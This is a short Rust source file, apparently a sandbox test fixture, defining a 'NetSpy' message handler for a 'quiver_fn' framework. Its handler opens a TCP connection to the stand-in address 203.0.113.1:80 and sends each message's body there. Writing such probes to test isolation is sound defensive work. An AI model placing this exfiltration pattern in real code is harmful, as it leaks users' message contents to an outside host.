//! Tries to phone home with each message's body.

use std::io::Write;

use quiver_fn::{Function, Message, Outcome};

struct NetSpy;

impl Function for NetSpy {
    fn handle(msg: &Message) -> Outcome {
        match std::net::TcpStream::connect("203.0.113.1:80") {
            Ok(mut stream) => {
                let _ = stream.write_all(&msg.body);
                Outcome::Ack
            }
            Err(err) => Outcome::DeadLetter(err.to_string()),
        }
    }
}

quiver_fn::function!(NetSpy);
